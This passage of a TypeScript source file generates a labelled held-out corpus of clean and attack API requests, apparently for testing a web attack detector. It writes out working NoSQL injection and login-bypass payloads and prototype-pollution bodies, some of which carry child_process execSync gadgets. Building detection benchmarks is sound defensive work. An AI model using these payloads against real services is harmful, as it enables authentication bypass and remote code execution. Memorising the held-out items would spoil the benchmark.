    ['function-accumulator', { $function: { body: 'function(){ return true }', args: [], lang: 'js' } }],
    ['or-bypass', { $or: [{}, { a: 'a' }] }],
  ];
  for (let i = 0; i < ops.length; i++) {
    const [t, op] = at(ops, i);
    const b = bodyWith(i, at(['password', 'apiKey', 'resetToken', 'ownerId', 'status'], i), op);
    add(`${t}+json-operator-object`, jsonAttack(b.path, b.method, b.body));
  }
  const loginPairs: [string, string][] = [
    ['qs-ne', 'username=admin&password[$ne]=x'],
    ['qs-regex', 'username[$regex]=^adm&password[$gt]='],
    ['qs-where', 'filter[$where]=this.price<0||sleep(3000)'],
    ['qs-exists', 'token[$exists]=false&email=admin%40lenderco.example'],
    ['qs-encoded-dollar', 'reporter%5B%24ne%5D=null&state=triaged'],
  ];
  for (const [t, q] of loginPairs) {
    add(`${t}+query-brackets`, { method: 'GET', path: `/api/v2/reports?${q}`, headers: headers(), body: '' });
  }
  add(
    'form-ne+form-brackets',
    formReq('/league/login', { username: 'coach.silva', 'password[$ne]': 'wrong' }, false),
  );
  add(
    'form-regex+form-brackets',
    formReq('/disclose/lookup', { 'reference[$regex]': '.*', email: pick(EMAILS) }, false),
  );
  add(
    'unicode-escaped-ne+json-unicode-escaped',
    jsonAttack(
      '/mortgage/v1/auth/login',
      'POST',
      '{"email":"j.okafor@lenderco.example","password":{"\\u0024ne":""}}',
    ),
  );
  add(
    'unicode-escaped-where+json-unicode-escaped',
    jsonAttack(
      '/photos/api/assets/query',
      'POST',
      '{"filter":{"\\u0024where":"this.ownerId == this.ownerId"},"limit":100}',
    ),
  );
  add(
    'graphql-variable-operator+graphql-variables',
    jsonAttack(
      '/graphql',
      'POST',
      JSON.stringify({
        query: 'query Login($u: JSON!, $p: JSON!) { login(username: $u, password: $p) { token } }',
        variables: { u: 'admin', p: { $ne: '' } },
      }),
    ),
  );
  add('graphql-filter-regex+graphql-persisted-get', {
    method: 'GET',
    path: `/graphql?${qs({ operationName: 'Players', variables: JSON.stringify({ where: { email: { $regex: '^a' }, role: { $ne: 'player' } } }) })}`,
    headers: headers(),
    body: '',
  });
  add(
    'aggregate-lookup+json-pipeline',
    jsonAttack(
      '/registry/api/models/aggregate',
      'POST',
      JSON.stringify({
        pipeline: [
          { $match: {} },
          { $lookup: { from: 'users', localField: 'owner', foreignField: '_id', as: 'u' } },
        ],
      }),
    ),
  );
  add(
    'json-string-in-json-ne+json-string-in-json',
    jsonAttack(
      '/customs/v1/entries/search',
      'POST',
      JSON.stringify({ filterJson: JSON.stringify({ importer: { $ne: null }, broker: { $gt: '' } }) }),
    ),
  );
  add(
    'base64-filter+base64-field',
    jsonAttack(
      '/agri/v1/readings/export',
      'POST',
      JSON.stringify({
        format: 'csv',
        filterB64: b64(JSON.stringify({ field: { $regex: '.*' }, $where: 'sleep(2000)' })),
      }),
    ),
  );
  add(
    'where-js-quote-breakout+json-nested-field',
    jsonAttack(
      '/league/api/players/find',
      'POST',
      JSON.stringify({
        query: { name: "'; return true; var x='" },
        $where: "this.name == ''; return true; var x=''",
      }),
    ),
  );
  add(
    'jsonapi-filter-operator+jsonapi-attribute',
    jsonAttack(
      '/jsonapi/assets/search',
      'POST',
      JSON.stringify({
        data: { type: 'search', attributes: { photographer: { $ne: null }, price: { $lt: 0 } } },
      }),
      'application/vnd.api+json',
    ),
  );
  add('ndjson-operator+ndjson-line', {
    method: 'POST',
    path: '/agri/v1/telemetry/bulk',
    headers: headers({ 'content-type': 'application/x-ndjson' }),
    body: `${JSON.stringify({ device: 'lora-9f8e7d6c', ts: isoTime(), v: 1 })}\n${JSON.stringify({ device: { $ne: 'x' }, $set: { firmware: 'evil' } })}\n`,
  });
  add(
    'update-operator-set+merge-patch',
    jsonAttack(
      `/league/api/players/${int(1000, 9999)}`,
      'PATCH',
      JSON.stringify({ $set: { role: 'admin' }, number: 9 }),
      'application/merge-patch+json',
    ),
  );
  add(
    'array-element-operator+json-array-element',
    jsonAttack(
      '/mro/v1/work-orders/bulk-close',
      'POST',
      JSON.stringify({ ids: ['WO-100231', { $gt: '' }], reason: 'audit' }),
    ),
  );
  add('json-filter-in-query+query-param', {
    method: 'GET',
    path: `/customs/v1/entries?${qs({ filter: JSON.stringify({ importer: { $ne: null }, $where: 'sleep(3000)' }), limit: '50' })}`,
    headers: headers(),
    body: '',
  });
  if (list.length !== 30) throw new Error(`nosql attacks: ${list.length}`);
  return list;
}

function protoAttacks(): Tagged[] {
  const list: Tagged[] = [];
  const add = (technique: string, r: Req) => list.push({ ...r, technique });
  const raw = (path: string, body: string, ct = 'application/json', method = 'POST') =>
    jsonAttack(path, method, body, ct);
  add(
    'proto-top-level+json-body',
    raw('/photos/api/assets', '{"title":"Harvest","__proto__":{"isAdmin":true}}'),
  );
  add(
    'constructor-prototype+json-body',
    raw('/league/api/teams', '{"name":"Rovers","constructor":{"prototype":{"role":"admin"}}}'),
  );
  add(
    'nested-proto+json-nested-field',
    raw(
      '/agri/v1/devices/register',
      '{"device":{"config":{"display":{"__proto__":{"shell":"/proc/self/exe","argv0":"id"}}}}}',
    ),
  );
  add(
    'ejs-gadget+json-body',
    raw(
      '/registry/api/models/versions',
      `{"model":"crop-yield-xgb","__proto__":{"outputFunctionName":"x;process.mainModule.require('child_process').execSync('id');x"}}`,
    ),
  );
  add(
    'unicode-escaped-key+json-unicode-escaped',
    raw('/mro/v1/work-orders', '{"tail":"N482QX","\\u005f\\u005fproto\\u005f\\u005f":{"approved":true}}'),
  );
  add(
    'partial-escape-key+json-unicode-escaped',
    raw('/customs/v1/declarations', '{"lines":[{"hs":"7318.15.8066","__pro\\u0074o__":{"cleared":true}}]}'),
  );
  add('qs-bracket-proto+query-brackets', {
    method: 'GET',
    path: '/photos/api/search?q=fjord&__proto__[admin]=1',
    headers: headers(),
    body: '',
  });
  add('qs-constructor+query-brackets', {
    method: 'GET',
    path: '/api/v2/reports?constructor[prototype][isStaff]=true&state=new',
    headers: headers(),
    body: '',
  });
  add('qs-dotted+query-dotted', {
    method: 'GET',
    path: '/league/api/fixtures?season=2026-27&__proto__.polluted=yes',
    headers: headers(),
    body: '',
  });
  add('qs-encoded-brackets+query-brackets', {
    method: 'GET',
    path: '/mortgage/v1/pipeline?__proto__%5BisUnderwriter%5D=true',
    headers: headers(),
    body: '',
  });
  add(
    'form-proto+form-brackets',
    formReq(
      '/league/register',
      { team_name: 'Rovers', '__proto__[toString]': 'polluted', contact_email: pick(EMAILS) },
      false,
    ),
  );
  add(
    'form-constructor+form-brackets',
    formReq('/customs/quote-request', { company: 'Smith & Sons', 'constructor[prototype][admin]': 'true' }),
  );
  add(
    'json-patch-proto-path+json-patch',
    raw(
      `/mortgage/v1/applications/${uuid()}/conditions`,
      JSON.stringify([{ op: 'add', path: '/__proto__/isApproved', value: true }]),
      'application/json-patch+json',
      'PATCH',
    ),
  );
  add(
    'json-patch-constructor-path+json-patch',
    raw(
      `/photos/api/assets/ph_${randStr(10)}`,
      JSON.stringify([{ op: 'replace', path: '/constructor/prototype/price', value: 0 }]),
      'application/json-patch+json',
      'PATCH',
    ),
  );
  add(
    'merge-patch-proto+merge-patch',
    raw(
      `/league/api/players/${int(1000, 9999)}`,
      '{"profile":{"__proto__":{"verified":true}}}',
      'application/merge-patch+json',
      'PATCH',
    ),
  );
  add(
    'jsonapi-attribute-proto+jsonapi-attribute',
    raw(
      '/jsonapi/defects',
      '{"data":{"type":"defects","attributes":{"ata":"32-41","__proto__":{"signedOff":true}}}}',
      'application/vnd.api+json',
    ),
  );
  add(
    'graphql-variable-proto+graphql-variables',
    raw(
      '/graphql',
      '{"query":"mutation U($input: JSON!) { updateSettings(input: $input) { ok } }","variables":{"input":{"__proto__":{"isAdmin":true}}}}',
    ),
  );
  add('graphql-persisted-proto+graphql-persisted-get', {
    method: 'GET',
    path: `/graphql?${qs({ operationName: 'Prefs', variables: '{"prefs":{"constructor":{"prototype":{"debug":true}}}}' })}`,
    headers: headers(),
    body: '',
  });
  add(
    'lodash-set-path+json-path-string',
    raw(
      '/registry/api/prompts/hs-classifier/settings',
      JSON.stringify({ path: '__proto__.isAdmin', value: true }),
    ),
  );
  add(
    'lodash-set-constructor-path+json-path-string',
    raw(
      '/agri/v1/fields/pivot-14/config',
      JSON.stringify({ key: 'constructor.prototype.allowUnsafeFirmware', value: true }),
    ),
  );
  add(
    'path-array+json-path-array',
    raw(
      '/photos/api/assets/ph_x1/meta',
      JSON.stringify({ set: { path: ['__proto__', 'polluted'], value: 'yes' } }),
    ),
  );
  add(
    'string-in-json+json-string-in-json',
    raw(
      '/mro/v1/work-orders/import',
      JSON.stringify({ payload: '{"tail":"G-EZWT","__proto__":{"bypassSignoff":true}}' }),
    ),
  );
  add(
    'base64-json+base64-field',
    raw(
      '/customs/v1/declarations/import',
      JSON.stringify({
        encoding: 'base64',
        data: b64('{"importer":{"eori":"DE1"},"__proto__":{"cleared":true}}'),
      }),
    ),
  );
  add(
    'array-element-proto+json-array-element',
    raw(
      '/league/api/roster/bulk',
      '{"players":[{"name":"Aoife"},{"name":"Kwame","__proto__":{"captain":true}}]}',
    ),
  );
  add('ndjson-proto+ndjson-line', {
    method: 'POST',
    path: '/agri/v1/telemetry/bulk',
    headers: headers({ 'content-type': 'application/x-ndjson' }),
    body: '{"device":"lora-1","v":1}\n{"device":"lora-2","__proto__":{"trusted":true}}\n',
  });
  add(
    'child-process-env-gadget+json-body',
    raw(
      '/registry/api/evals/run',
      '{"config":{"__proto__":{"NODE_OPTIONS":"--require /proc/self/environ","env":{"EVIL":"console.log(require(\'child_process\').execSync(\'id\').toString())//"}}}}',
    ),
  );
  add(
    'deep-constructor+json-nested-field',
    raw(
      '/mortgage/v1/applications',
      '{"borrowers":[{"firstName":"Ana","meta":{"a":{"constructor":{"prototype":{"creditOverride":800}}}}}]}',
    ),
  );
  add(
    'multipart-field-name+multipart',
    multipartReq(
      '/photos/api/uploads',
      { license: 'editorial', '__proto__[isAdmin]': 'true' },
      { name: 'a.jpg', field: 'image', type: 'image/jpeg', content: 'ÿØÿà' },
    ),
  );
  add('header-json-proto+header', {
    method: 'GET',
    path: '/registry/api/models',
    headers: { ...headers(), 'x-user-prefs': '{"__proto__":{"role":"admin"}}' },
    body: '',
  });
  add(
    'prototype-key-duplicate+json-body',
    raw(
      '/api/v2/programs/acme-payments/settings',
      '{"bounty":{"max":5000},"__proto__":{"bounty":{"max":1000000}},"__proto__":{"isOwner":true}}',
    ),
  );
  if (list.length !== 30) throw new Error(`prototype-pollution attacks: ${list.length}`);
  return list;
}

// ---------------------------------------------------------------- assembly

function build(): { clean: CorpusRequest[]; attacks: CorpusRequest[] } {
  const clean: CorpusRequest[] = [];
  for (const [kind, n, fn] of CLEAN_PLAN) {
    for (let i = 0; i < n; i++) clean.push({ id: `h24c${clean.length + 1}`, kind, ...fn() });
  }
  const attacks: CorpusRequest[] = [];
  const push = (family: string, rs: Tagged[]) => {
    for (const r of rs) {
      const { technique, ...rest } = r;
      attacks.push({ id: `h24a${attacks.length + 1}`, kind: 'attack', family, technique, ...rest });
    }
  };
  const byName = (name: string): StringFamily => {
    const f = STRING_FAMILIES.find((x) => x.family === name);
    if (!f) throw new Error(`unknown family ${name}`);
    return f;
  };
  push('sql', stringFamilyAttacks(byName('sql')));
  push('nosql', nosqlAttacks());
  push('template', stringFamilyAttacks(byName('template')));
  push('command', stringFamilyAttacks(byName('command')));
  push('xss', stringFamilyAttacks(byName('xss')));
  push('log4shell', stringFamilyAttacks(byName('log4shell')));
  push('ssrf', stringFamilyAttacks(byName('ssrf')));
  push('path-traversal', stringFamilyAttacks(byName('path-traversal')));
  push('prototype-pollution', protoAttacks());
  return { clean, attacks };
}

/** Held-out corpus 24: clean API traffic and attacks (30 per family across nine families). */
export const heldout24: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = build();

function countBy(xs: CorpusRequest[], key: (r: CorpusRequest) => string): Record<string, number> {
  const out: Record<string, number> = {};
  for (const x of xs) out[key(x)] = (out[key(x)] ?? 0) + 1;
  return out;
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout24.json'), `${JSON.stringify(heldout24.clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout24.json'), `${JSON.stringify(heldout24.attacks, null, 2)}\n`);
  console.log(
    `clean: ${heldout24.clean.length}`,
    countBy(heldout24.clean, (r) => r.kind),
  );
  console.log(
    `attacks: ${heldout24.attacks.length}`,
    countBy(heldout24.attacks, (r) => r.family ?? 'none'),
  );
}
